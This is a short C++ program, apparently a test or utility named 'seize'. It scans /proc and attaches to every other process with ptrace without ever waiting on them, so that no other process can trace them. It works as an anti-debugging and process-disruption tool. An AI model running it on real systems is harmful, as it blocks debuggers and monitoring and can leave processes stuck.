// seize: traces each process that it sees and never waits for any, so that no other process can.
//
// Writes a byte for each.
#include <dirent.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <unistd.h>

int main() {
  for (;;) {
    DIR* processes = opendir("/proc");
    if (processes == nullptr) return 1;
    while (const dirent* entry = readdir(processes)) {
      const auto pid = static_cast<pid_t>(strtol(entry->d_name, nullptr, 10));
      if (pid <= 0 || pid == getpid()) continue;
      if (ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == 0 && write(1, ".", 1) != 1) return 1;
    }
    closedir(processes);
    usleep(1000);
  }
}
